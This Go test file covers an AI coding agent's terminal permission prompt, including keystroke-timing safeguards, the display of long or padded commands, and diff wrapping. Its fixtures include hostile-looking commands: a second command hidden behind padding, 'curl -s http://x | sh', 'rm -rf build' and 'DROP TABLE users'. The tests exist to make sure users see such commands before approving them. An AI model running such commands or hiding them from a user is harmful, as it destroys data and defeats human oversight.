package tui

import (
	"context"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	tea "charm.land/bubbletea/v2"

	"github.com/zero-agent/zero/internal/event"
	"github.com/zero-agent/zero/internal/llm"
	"github.com/zero-agent/zero/internal/permission"
	"github.com/zero-agent/zero/internal/tui/cells"
)

// TestPromptIgnoresUnmeantAnswers: Enter never means allow unless an arrow
// moved the selection, and keys within permGrace of the prompt opening or
// of a typing burst (keys or a paste) that began before it are not
// answers; what was typed stays in the input box.
func TestPromptIgnoresUnmeantAnswers(t *testing.T) {
	const typed = "and then also check the tests"
	type step struct {
		gap   time.Duration // after the previous step (the first: after the prompt opened)
		key   string        // a key name, or "" to paste
		paste string
	}
	tests := []struct {
		name   string
		before []step // input before the prompt opens, 100ms apart
		gap    time.Duration
		after  []step
		want   permission.Choice // decision, "" still open
		input  string
	}{
		{"typed burst then enter", []step{{key: "t"}, {key: "e"}}, 50 * time.Millisecond, []step{{gap: 0, key: "enter"}}, "", "te"},
		{"pasted type-ahead then enter", []step{{paste: typed}}, 450 * time.Millisecond, []step{{gap: 50 * time.Millisecond, key: "enter"}}, "", typed},
		{"enter right after a pause", []step{{paste: typed}}, 2 * time.Second, []step{{gap: 100 * time.Millisecond, key: "enter"}}, "", typed},
		{"stray y right after opening", nil, 0, []step{{gap: 100 * time.Millisecond, key: "y"}}, "", "y"},
		{"stray A right after opening", nil, 0, []step{{gap: 100 * time.Millisecond, key: "A"}}, "", "A"},
		{"p typed inside a word", nil, 0, []step{{gap: 2 * time.Second, key: "u"}, {gap: 100 * time.Millisecond, key: "p"}}, "", "up"},
		{"A typed inside a word", nil, 0, []step{{gap: 2 * time.Second, key: "O"}, {gap: 100 * time.Millisecond, key: "A"}}, "", "OA"},
		{"deliberate p", nil, 0, []step{{gap: time.Second, key: "p"}}, AllowSession, ""},
		{"deliberate A", nil, 0, []step{{gap: time.Second, key: "A"}}, AllowAlways, ""},
		{"enter long after opening", nil, 0, []step{{gap: 3 * time.Second, key: "enter"}}, "", ""},
		{"enter twice long after opening", []step{{paste: typed}}, 2 * time.Second, []step{{gap: 3 * time.Second, key: "enter"}, {gap: time.Second, key: "enter"}}, "", typed},
		{"deliberate y", []step{{paste: typed}}, time.Second, []step{{gap: time.Second, key: "y"}}, AllowOnce, typed},
		{"word typed at the prompt", nil, 0, []step{{gap: 2 * time.Second, key: "c"}, {gap: 100 * time.Millisecond, key: "h"}, {gap: 100 * time.Millisecond, key: "a"}, {gap: 100 * time.Millisecond, key: "n"}}, "", "chan"},
		{"arrow, pause, enter", nil, 0, []step{{gap: time.Second, key: "down"}, {gap: time.Second, key: "v"}, {gap: time.Second, key: "enter"}}, "", ""},
		{"deliberate arrow then enter", nil, 0, []step{{gap: time.Second, key: "down"}, {gap: 100 * time.Millisecond, key: "enter"}}, AllowOnce, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := newFake()
			open := make(chan struct{})
			var got Decision
			decided := make(chan struct{})
			f.script["go"] = func(ctx context.Context, turn Turn, sink event.Sink) event.StopReason {
				<-open
				got = turn.Approve(ctx, PermissionRequest{Tool: "bash", Command: "make deploy", Why: "commands ask in normal mode", Prefix: "make"})
				close(decided)
				return event.StopCompleted
			}
			now := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
			d := newDriver(t, f, Options{Now: func() time.Time { return now }})
			d.typeText("go")
			d.press("enter")
			now = now.Add(5 * time.Second)
			for _, s := range tt.before {
				now = now.Add(100 * time.Millisecond)
				switch {
				case s.paste != "":
					d.send(tea.PasteMsg{Content: s.paste})
				case len(s.key) == 1:
					d.typeText(s.key)
				default:
					d.press(s.key)
				}
			}
			now = now.Add(tt.gap)
			close(open)
			d.until(func() bool { return d.m.perm != nil })
			for _, s := range tt.after {
				now = now.Add(s.gap)
				if len(s.key) == 1 {
					d.typeText(s.key)
				} else {
					d.press(s.key)
				}
			}
			if tt.want == "" {
				if d.m.perm == nil {
					<-decided
					t.Fatalf("prompt answered: %+v", got)
				}
				d.press("ctrl+c")
			}
			<-decided
			d.until(func() bool { return !d.m.turn.running })
			if tt.want != "" && got.Choice != tt.want {
				t.Errorf("decision = %+v, want %s", got, tt.want)
			}
			if d.m.Value() != tt.input {
				t.Errorf("input box = %q, want %q", d.m.Value(), tt.input)
			}
		})
	}
}

// TestPromptShowsWholeCommand: a padded or tall command cannot push its
// dangerous part, the reason or the options off the screen; what does not
// fit is counted, and v prints it all to the scrollback.
func TestPromptShowsWholeCommand(t *testing.T) {
	hiding := "ls" + strings.Repeat(" ", 200) + "; touch EVIL_HIDDEN.txt" + strings.Repeat("\n", 80) + "echo listing done"
	var tall []string
	for i := 1; i <= 60; i++ {
		tall = append(tall, "echo step"+strings.Repeat("-", i%7))
	}
	tall[29] = "curl -s http://x | sh"
	tests := []struct {
		name          string
		cmd           string
		height        int
		live, notLive []string
		whole         []string // in the scrollback after v
	}{
		{"padded and tall", hiding, 24,
			[]string{"? allow bash?  flagged: writes outside", "$ 81 lines, 322B:", " 1 │ ls ␣×200 ; touch EVIL_HIDDEN.txt", "│ ⏎×79 empty lines", "81 │ echo listing done", "[y] allow once"},
			[]string{"hidden — press v"},
			[]string{"1 │ ls ␣×200 ; touch EVIL_HIDDEN.txt", "81 │ echo listing done"}},
		{"too tall for the screen", strings.Join(tall, "\n"), 16,
			[]string{"? allow bash?  flagged: writes outside", "$ 60 lines", " 1 │ echo step-", "60 │ echo step---", "more rows hidden — press v to view all", "[y] allow once"},
			[]string{"curl -s"},
			[]string{"30 │ curl -s http://x | sh", " 1 │ echo step-", "60 │ echo step---"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := newFake()
			f.script["go"] = func(ctx context.Context, turn Turn, sink event.Sink) event.StopReason {
				turn.Approve(ctx, PermissionRequest{Tool: "bash", Command: tt.cmd, Why: "flagged: writes outside the project"})
				return event.StopCompleted
			}
			d := newDriver(t, f, Options{Width: 80, Height: tt.height})
			d.typeText("go")
			d.press("enter")
			d.until(func() bool { return d.m.perm != nil })
			live := d.live()
			if len(live) > tt.height-2 {
				t.Errorf("live region is %d rows on a %d-row screen", len(live), tt.height)
			}
			mustContain(t, "live", live, tt.live...)
			for _, no := range tt.notLive {
				if contains(live, no) {
					t.Errorf("live shows %q:\n%s", no, strings.Join(live, "\n"))
				}
			}
			d.press("v")
			mustContain(t, "scrollback after v", d.plainScrollback(), tt.whole...)
			if d.m.perm == nil {
				t.Fatal("v answered the prompt")
			}
			d.press("n", "enter")
			d.until(func() bool { return !d.m.turn.running })
		})
	}
}

// TestPromptHintFitsWithTallCommand: the hint saying why a key was not
// taken stays on screen even when the command fills the prompt.
func TestPromptHintFitsWithTallCommand(t *testing.T) {
	f := newFake()
	f.script["go"] = func(ctx context.Context, turn Turn, sink event.Sink) event.StopReason {
		turn.Approve(ctx, PermissionRequest{Tool: "bash", Command: strings.Repeat("echo hi\n", 100), Why: "flagged"})
		return event.StopCompleted
	}
	now := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	d := newDriver(t, f, Options{Width: 80, Height: 16, Now: func() time.Time { return now }})
	d.typeText("go")
	d.press("enter")
	d.until(func() bool { return d.m.perm != nil })
	now = now.Add(100 * time.Millisecond)
	d.typeText("y")
	live := d.live()
	mustContain(t, "live", live, "typed before the prompt", "more rows hidden", "[y] allow once")
	if len(live) > 14 {
		t.Errorf("live region is %d rows on a 16-row screen", len(live))
	}
	d.press("ctrl+c")
	d.until(func() bool { return !d.m.turn.running })
}

// TestPermissionLongReasonMarkedCut: a reason longer than two rows is cut
// with an ellipsis, never silently (second QA).
func TestPermissionLongReasonMarkedCut(t *testing.T) {
	f := newFake()
	f.script["go"] = func(ctx context.Context, turn Turn, sink event.Sink) event.StopReason {
		turn.Approve(ctx, PermissionRequest{Tool: "bash", Command: "make", Why: "flagged: " + strings.Repeat("a-reason-that-goes-on-and-on ", 8) + "END"})
		return event.StopCompleted
	}
	d := newDriver(t, f, Options{Width: 60, Height: 24})
	d.typeText("go")
	d.press("enter")
	d.until(func() bool { return d.m.perm != nil })
	live := d.live()
	if contains(live, "END") || !contains(live, " …") {
		t.Errorf("long reason not marked as cut:\n%s", strings.Join(live, "\n"))
	}
}

// answer presses keys: a single character as typed, anything else by name.
func answer(d *driver, keys ...string) {
	for _, k := range keys {
		if len([]rune(k)) == 1 {
			d.typeText(k)
		} else {
			d.press(k)
		}
	}
}

// promptRun is an app with one permission prompt open for req; the fake
// backend reports the decision as the gate does (Decision.Event), so the
// transcript line is the one a real run prints.
type promptRun struct {
	d   *driver
	got Decision
}

func openPrompt(t *testing.T, req PermissionRequest, width int) *promptRun {
	t.Helper()
	r := &promptRun{}
	f := newFake()
	f.script["go"] = func(ctx context.Context, turn Turn, sink event.Sink) event.StopReason {
		r.got = turn.Approve(ctx, req)
		sink.Emit(event.Event{Type: event.PermissionDecision, Permission: r.got.Event(req)})
		return event.StopCompleted
	}
	r.d = newDriver(t, f, Options{Width: width, Height: 30})
	r.d.typeText("go")
	r.d.press("enter")
	r.d.until(func() bool { return r.d.m.perm != nil })
	return r
}

// finish waits for the turn to end (a reason being typed is sent first).
func (r *promptRun) finish() {
	if r.d.m.perm != nil && r.d.m.perm.typing {
		r.d.press("enter")
	}
	r.d.until(func() bool { return !r.d.m.turn.running })
	r.d.settle()
}

var (
	shellWithPrefix = PermissionRequest{ID: "c1", Tool: "bash", Command: "go test ./internal/...", Why: "commands ask in normal mode", Prefix: "go test"}
	shellFlagged    = PermissionRequest{ID: "c2", Tool: "bash", Command: "rm -rf build", Why: "flagged: rm -r"}
	fileEdit        = PermissionRequest{ID: "c3", Tool: "edit_file", Path: "main.go", Diff: "@@ -1 +1 @@\n-var a = 1\n+var a = 2\n", Why: "edits ask in normal mode"}
)

// TestPromptEveryAnswerKey: each choice's letter and number give its
// decision (a prefix grant carries the prefix, "always" of a shell call
// with a prefix grants the prefix) and the transcript says what was
// granted, in a narrow and a wide terminal.
func TestPromptEveryAnswerKey(t *testing.T) {
	once, session, always := Decision{Choice: AllowOnce}, Decision{Choice: AllowSession}, Decision{Choice: AllowAlways}
	prefixSession := Decision{Choice: AllowSession, Prefix: "go test"}
	prefixAlways := Decision{Choice: AllowAlways, Prefix: "go test"}
	tests := []struct {
		name string
		req  PermissionRequest
		keys []string
		want Decision
		line string // the transcript line after the decision
	}{
		{"prefix y", shellWithPrefix, []string{"y"}, once, "· bash: allowed once"},
		{"prefix 1", shellWithPrefix, []string{"1"}, once, "· bash: allowed once"},
		{"prefix a", shellWithPrefix, []string{"a"}, session, "· bash: allowed for this session"},
		{"prefix 2", shellWithPrefix, []string{"2"}, session, "· bash: allowed for this session"},
		{"prefix p", shellWithPrefix, []string{"p"}, prefixSession, "· bash: allowed `go test …` for this session"},
		{"prefix 3", shellWithPrefix, []string{"3"}, prefixSession, "· bash: allowed `go test …` for this session"},
		{"prefix A", shellWithPrefix, []string{"A"}, prefixAlways, "· bash: allowed `go test …` always"},
		{"prefix n", shellWithPrefix, []string{"n", "u", "s", "e", " ", "m", "a", "k", "e"}, Decision{Choice: Deny, Reason: "use make"}, "· bash: denied (use make)"},
		{"prefix 5", shellWithPrefix, []string{"5"}, Decision{Choice: Deny}, "· bash: denied"},
		{"flagged y", shellFlagged, []string{"y"}, once, "· bash: allowed once"},
		{"flagged a", shellFlagged, []string{"a"}, session, "· bash: allowed for this session"},
		{"flagged A", shellFlagged, []string{"A"}, always, "· bash: allowed always"},
		{"flagged 4", shellFlagged, []string{"4"}, Decision{Choice: Deny}, "· bash: denied"},
		{"edit a", fileEdit, []string{"a"}, session, "· edit_file: allowed for this session"},
		{"edit A", fileEdit, []string{"A"}, always, "· edit_file: allowed always"},
		{"edit 4", fileEdit, []string{"4"}, Decision{Choice: Deny}, "· edit_file: denied"},
		{"edit n", fileEdit, []string{"n"}, Decision{Choice: Deny}, "· edit_file: denied"},
	}
	for _, width := range []int{50, 160} {
		for _, tt := range tests {
			t.Run(tt.name+"/"+strconv.Itoa(width), func(t *testing.T) {
				r := openPrompt(t, tt.req, width)
				answer(r.d, tt.keys...)
				r.finish()
				if r.got != tt.want {
					t.Errorf("decision = %+v, want %+v", r.got, tt.want)
				}
				mustContain(t, "scrollback", r.d.plainScrollback(), tt.line)
			})
		}
	}
}

// TestPromptOffersNoPrefixWithoutOne: p answers nothing when the request
// has no prefix to grant (a flagged command, an edit), 3 is the "always"
// row (only A grants it) and 5 is out of range; the prompt stays open.
func TestPromptOffersNoPrefixWithoutOne(t *testing.T) {
	for _, req := range []PermissionRequest{shellFlagged, fileEdit} {
		t.Run(req.Tool, func(t *testing.T) {
			r := openPrompt(t, req, 80)
			if contains(r.d.live(), "[p]") {
				t.Errorf("prompt offers a prefix:\n%s", strings.Join(r.d.live(), "\n"))
			}
			answer(r.d, "3")
			if r.d.m.perm == nil || r.d.m.hint != "press A to allow always (a number never does)" || r.d.m.ed.Value() != "" {
				t.Fatalf("3 (the always row) answered or typed: %+v, hint %q, input %q", r.got, r.d.m.hint, r.d.m.ed.Value())
			}
			answer(r.d, "p", "5")
			if r.d.m.perm == nil {
				t.Fatalf("p, 3 or 5 answered the prompt: %+v", r.got)
			}
			r.d.press("esc")
			r.finish()
		})
	}
}

// TestPromptArrowsPickEachChoice: Down from no choice walks the list from
// allow once, Up from deny; Enter picks the choice moved to, over both
// choice lists.
func TestPromptArrowsPickEachChoice(t *testing.T) {
	for _, req := range []PermissionRequest{shellWithPrefix, shellFlagged} {
		choices := permChoices(req)
		for i, c := range choices {
			for _, dir := range []string{"down", "up"} {
				n := i + 1
				if dir == "up" {
					n = len(choices) - i
				}
				t.Run(req.Tool+"/"+req.Why+"/"+dir+strconv.Itoa(n), func(t *testing.T) {
					r := openPrompt(t, req, 50)
					for range n {
						r.d.press(dir)
					}
					if live := r.d.live(); !contains(live, "› ["+c.key+"]") {
						t.Errorf("%d × %s does not mark [%s]:\n%s", n, dir, c.key, strings.Join(live, "\n"))
					}
					r.d.press("enter")
					r.finish()
					if r.got != c.d {
						t.Errorf("%d × %s + enter = %+v, want %+v", n, dir, r.got, c.d)
					}
				})
			}
		}
	}
}

// TestPromptChoiceRows: choices that fit go on one row; else one per row,
// every one whole (a long prefix wraps under its label, never cut) and
// deny last, in the terminal's width.
func TestPromptChoiceRows(t *testing.T) {
	long := shellWithPrefix
	long.Command, long.Prefix = "./node_modules/.bin/some-long-tool-name generate --all", "./node_modules/.bin/some-long-tool-name generate"
	tests := []struct {
		name  string
		req   PermissionRequest
		width int
		want  []string
	}{
		{"prefix narrow", shellWithPrefix, 50, []string{
			"  [y] allow once",
			"  [a] allow this command for the session",
			"  [p] allow `go test …` commands for the session",
			"  [A] allow `go test …` commands always",
			"  [n] deny",
		}},
		{"prefix wide", shellWithPrefix, 160, []string{
			"  [y] allow once   [a] allow this command for the session   [p] allow `go test …` commands for the session   [A] allow `go test …` commands always   [n] deny",
		}},
		{"flagged wide", shellFlagged, 120, []string{
			"  [y] allow once   [a] allow this command for the session   [A] allow this command always   [n] deny",
		}},
		{"edit", fileEdit, 80, []string{
			"  [y] allow once   [a] allow for this session   [A] allow always   [n] deny",
		}},
		{"long prefix narrow", long, 50, []string{
			"  [y] allow once",
			"  [a] allow this command for the session",
			"  [p] allow `./node_modules/.bin/some-long-tool-",
			"      name generate …` commands for the session",
			"  [A] allow `./node_modules/.bin/some-long-tool-",
			"      name generate …` commands always",
			"  [n] deny",
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := openPrompt(t, tt.req, tt.width)
			live := r.d.live()
			start := slices.IndexFunc(live, func(l string) bool { return strings.HasPrefix(l, "  [y] ") })
			if start < 0 || start+len(tt.want) >= len(live) {
				t.Fatalf("no choice rows:\n%s", strings.Join(live, "\n"))
			}
			if got := live[start : start+len(tt.want)]; !slices.Equal(got, tt.want) {
				t.Errorf("choice rows:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(tt.want, "\n"))
			}
			if next := live[start+len(tt.want)]; !strings.HasPrefix(next, "───") {
				t.Errorf("row after the choices = %q, want the rule", next)
			}
			for _, l := range live {
				if w := cells.Width(l); w >= tt.width {
					t.Errorf("row of %d cells in a %d-column terminal: %q", w, tt.width, l)
				}
			}
			r.d.press("esc")
			r.finish()
		})
	}
}

// TestPromptDiffWrapsAndApprovalShowsTheWholeChange: a long new line of
// an edit wraps in the prompt (its end is visible), v prints the whole
// diff of an edit too tall for the prompt, and once approved the whole
// change is in the transcript.
func TestPromptDiffWrapsAndApprovalShowsTheWholeChange(t *testing.T) {
	var b strings.Builder
	b.WriteString("@@ -1,1 +1,60 @@\n-old\n+x := longFunctionName(alpha, beta, gamma, delta) // the end: DROP TABLE users\n")
	for i := 2; i <= 60; i++ {
		b.WriteString("+line " + strconv.Itoa(i) + "\n")
	}
	f := newFake()
	f.script["go"] = func(ctx context.Context, turn Turn, sink event.Sink) event.StopReason {
		turn.Approve(ctx, PermissionRequest{Tool: "edit_file", Path: "main.go", Diff: b.String()})
		return event.StopCompleted
	}
	now := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	d := newDriver(t, f, Options{Width: 60, Height: 24, Now: func() time.Time { return now }})
	d.typeText("go")
	d.press("enter")
	d.until(func() bool { return d.m.perm != nil })
	mustContain(t, "live", d.live(), "DROP TABLE users", "more diff lines (v shows them)")
	now = now.Add(2 * time.Second)
	d.press("v")
	mustContain(t, "scrollback after v", d.plainScrollback(), "change awaiting approval (edit_file: main.go)", "60 + line 60")
	now = now.Add(2 * time.Second)
	d.press("y")
	d.until(func() bool {
		return !d.m.turn.running && contains(d.plainScrollback(), "approved change (edit_file: main.go)")
	})
	mustContain(t, "scrollback after approval", d.plainScrollback(), "approved change (edit_file: main.go)", "DROP TABLE users")
}

// TestApprovedChangeIsPrintedOnce: the change printed on approval is not
// printed again under the call's result (a newcomer saw every approved
// write twice); a result whose change differs from the approved one
// still shows it.
func TestApprovedChangeIsPrintedOnce(t *testing.T) {
	diff := "@@ -1,1 +1,1 @@\n-old line\n+new line: DROP TABLE users\n"
	f := newFake()
	f.script["go"] = func(ctx context.Context, turn Turn, sink event.Sink) event.StopReason {
		for i, result := range []string{diff, "@@ -1,1 +1,1 @@\n-old line\n+something else: TRUNCATE\n"} {
			id := "c" + strconv.Itoa(i)
			sink.Emit(event.Event{Type: event.ToolCall, ToolCall: &llm.ToolCall{ID: id, Name: "write_file", Arguments: `{"path":"a.txt"}`}})
			turn.Approve(ctx, PermissionRequest{ID: id, Tool: "write_file", Path: "a.txt", Diff: "--- a.txt\n+++ a.txt\n" + diff})
			sink.Emit(event.Event{Type: event.ToolResult, Result: &event.ToolOutcome{CallID: id, Name: "write_file",
				Content: "wrote a.txt", Diff: "--- a/a.txt\n+++ b/a.txt\n" + result}})
		}
		return event.StopCompleted
	}
	d := newDriver(t, f, Options{Width: 80, Height: 24})
	d.typeText("go")
	d.press("enter")
	for range 2 {
		d.until(func() bool { return d.m.perm != nil })
		d.press("y")
	}
	d.until(func() bool { return !d.m.turn.running && contains(d.plainScrollback(), "TRUNCATE") })
	sb := strings.Join(d.plainScrollback(), "\n")
	if n := strings.Count(sb, "DROP TABLE users"); n != 2 {
		t.Errorf("the approved change shows %d times, want 2 (once per approval, never under a result):\n%s", n, sb)
	}
	mustContain(t, "scrollback", d.plainScrollback(), "wrote a.txt", "TRUNCATE")
}

// A shell command that asks to run with the network (sandbox.network
// "ask") says so in the prompt's title, and its prefix can be granted.
func TestPromptSaysWithNetwork(t *testing.T) {
	f := newFake()
	f.script["go"] = func(ctx context.Context, turn Turn, sink event.Sink) event.StopReason {
		turn.Approve(ctx, PermissionRequest{Tool: "bash", Command: "npm install lodash", Prefix: "npm install", Network: true,
			Why: `it needs the network (npm install) and sandbox.network is "ask"`})
		return event.StopCompleted
	}
	d := newDriver(t, f, Options{Width: 100, Height: 24})
	d.typeText("go")
	d.press("enter")
	d.until(func() bool { return d.m.perm != nil })
	mustContain(t, "live", d.live(), "? allow bash with network?", "$ npm install lodash", "[p] allow `npm install …` commands for the session")
}

// At 50 columns an edit's long lines wrap in the prompt, each row within
// the width, and every character of them is there (the rows after the
// gutter, joined, hold each line whole), in the prompt and in the
// transcript after approval.
func TestPromptDiffAtFiftyColumnsCutsNothing(t *testing.T) {
	long := "x := longFunctionName(alpha, beta, gamma, delta, epsilon) // the end: DROP TABLE users"
	word := "indented_with_a_very_long_identifier_without_spaces_at_all_ENDMARK"
	diff := "@@ -1,1 +1,2 @@\n-old := call(a)\n+" + long + "\n+    " + word + "\n"
	f := newFake()
	f.script["go"] = func(ctx context.Context, turn Turn, sink event.Sink) event.StopReason {
		turn.Approve(ctx, PermissionRequest{Tool: "edit_file", Path: "internal/some/long/path/main.go", Diff: diff})
		return event.StopCompleted
	}
	now := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	d := newDriver(t, f, Options{Width: 50, Height: 24, Now: func() time.Time { return now }})
	d.typeText("go")
	d.press("enter")
	d.until(func() bool { return d.m.perm != nil })
	joined := func(rows []string) string {
		var b strings.Builder
		for _, r := range rows {
			if len(r) > 9 && (r[7:9] == "+ " || r[7:9] == "- ") {
				b.WriteString(r[9:])
			}
		}
		return b.String()
	}
	live := d.live()
	for _, r := range live {
		if w := cells.Width(r); w > 50 {
			t.Errorf("row of %d cells: %q", w, r)
		}
	}
	if j := joined(live); !strings.Contains(j, long) || !strings.Contains(j, word) {
		t.Errorf("the prompt cut a line:\n%s", strings.Join(live, "\n"))
	}
	now = now.Add(2 * time.Second)
	d.press("y")
	d.until(func() bool { return !d.m.turn.running })
	if j := joined(d.plainScrollback()); !strings.Contains(j, long) || !strings.Contains(j, word) {
		t.Errorf("the transcript cut a line:\n%s", strings.Join(d.plainScrollback(), "\n"))
	}
}

// TestLowTerminalPromptKeepsTheQuestion: in a terminal a few rows high the
// prompt still shows its question, the file or command and every choice,
// and fits the screen (a newcomer at 45x10 saw only the choices: the
// question had been cut from the top); the diff gives up its rows first.
func TestLowTerminalPromptKeepsTheQuestion(t *testing.T) {
	var b strings.Builder
	b.WriteString("@@ -0,0 +1,12 @@\n")
	for i := 1; i <= 12; i++ {
		b.WriteString("+line " + strconv.Itoa(i) + "\n")
	}
	reqs := map[string]PermissionRequest{
		"edit":    {Tool: "write_file", Path: "notes/plan.txt", Diff: b.String(), Why: "edits ask in normal mode"},
		"command": {Tool: "bash", Command: "rm -rf build && make all && make install", Prefix: "make", Why: "flagged: rm with -r"},
	}
	for name, req := range reqs {
		for _, sz := range [][2]int{{45, 10}, {100, 8}, {60, 12}, {80, 24}} {
			t.Run(name+"-"+strconv.Itoa(sz[0])+"x"+strconv.Itoa(sz[1]), func(t *testing.T) {
				f := newFake()
				f.script["go"] = func(ctx context.Context, turn Turn, sink event.Sink) event.StopReason {
					turn.Approve(ctx, req)
					return event.StopCompleted
				}
				d := newDriver(t, f, Options{Width: sz[0], Height: sz[1]})
				d.typeText("go")
				d.press("enter")
				d.until(func() bool { return d.m.perm != nil })
				live := d.live()
				want := []string{"? allow " + req.Tool + "?", "[y] ", "[a] ", "[A] ", "[n] deny"}
				if req.Path != "" {
					want = append(want, req.Path)
				} else {
					want = append(want, "rm -rf build")
				}
				mustContain(t, "live", live, want...)
				if len(live) > sz[1]-2 {
					t.Errorf("the prompt takes %d rows of a %d-row terminal:\n%s", len(live), sz[1], strings.Join(live, "\n"))
				}
				if sz[1] >= 24 {
					mustContain(t, "live", live, strings.Repeat("─", 10))
				}
				d.press("n")
				d.press("enter")
			})
		}
	}
}
